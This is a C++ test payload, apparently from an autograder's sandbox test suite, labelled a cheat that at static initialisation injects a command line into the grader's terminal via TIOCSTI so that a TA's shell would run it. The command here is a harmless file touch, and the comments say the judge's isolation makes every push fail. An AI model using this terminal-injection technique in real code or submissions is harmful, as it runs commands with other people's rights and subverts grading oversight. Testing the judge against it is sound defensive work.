// Cheat (issue 30, family 1): at static init, push a command line into the terminal of whoever
// started the grading (TIOCSTI), so that the shell of a TA who re-checks one file runs it, with
// the TA's rights, when the judge returns: here `touch /tmp/banklab-tiocsti-ran` (harmless, and
// what a test under a pseudo-terminal looks for). It tries the controlling terminal (/dev/tty) and
// every inherited descriptor that is a terminal. Every step of the judge runs in a session of its
// own with no controlling terminal and no descriptor of its caller's: every push fails (the probe
// log says "TIOCSTI failed: ..."), and the stub's answers are judged.
// APPLIES: 00 05
// MODE: append
// PAYLOAD: BANKLAB-PAYLOAD-TIOCSTI
#include <fcntl.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <string>

namespace banklab_cheat_tiocsti {
inline std::string push(int fd) {
  // Two words the log never prints together: a test reads the terminal for them.
  const std::string line = std::string(" touch /tmp/banklab-") + "tiocsti-ran\n";
  for (char c : line)
    if (ioctl(fd, TIOCSTI, &c) != 0) return std::string("TIOCSTI failed: ") + std::strerror(errno);
  return "pushed a command line";
}

const int kPushed = [] {
  std::string what;
  const int tty = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
  if (tty < 0) {
    what = std::string("TIOCSTI failed: open /dev/tty: ") + std::strerror(errno);
  } else {
    what = "/dev/tty: " + push(tty);
    close(tty);
  }
  for (int fd = 0; fd < 64; ++fd)
    if (isatty(fd)) what += "; descriptor " + std::to_string(fd) + ": " + push(fd);
  std::printf("BANKLAB-PAYLOAD-TIOCSTI ran: %s\n", what.c_str());
  std::fflush(stdout);
  return 0;
}();
}  // namespace banklab_cheat_tiocsti
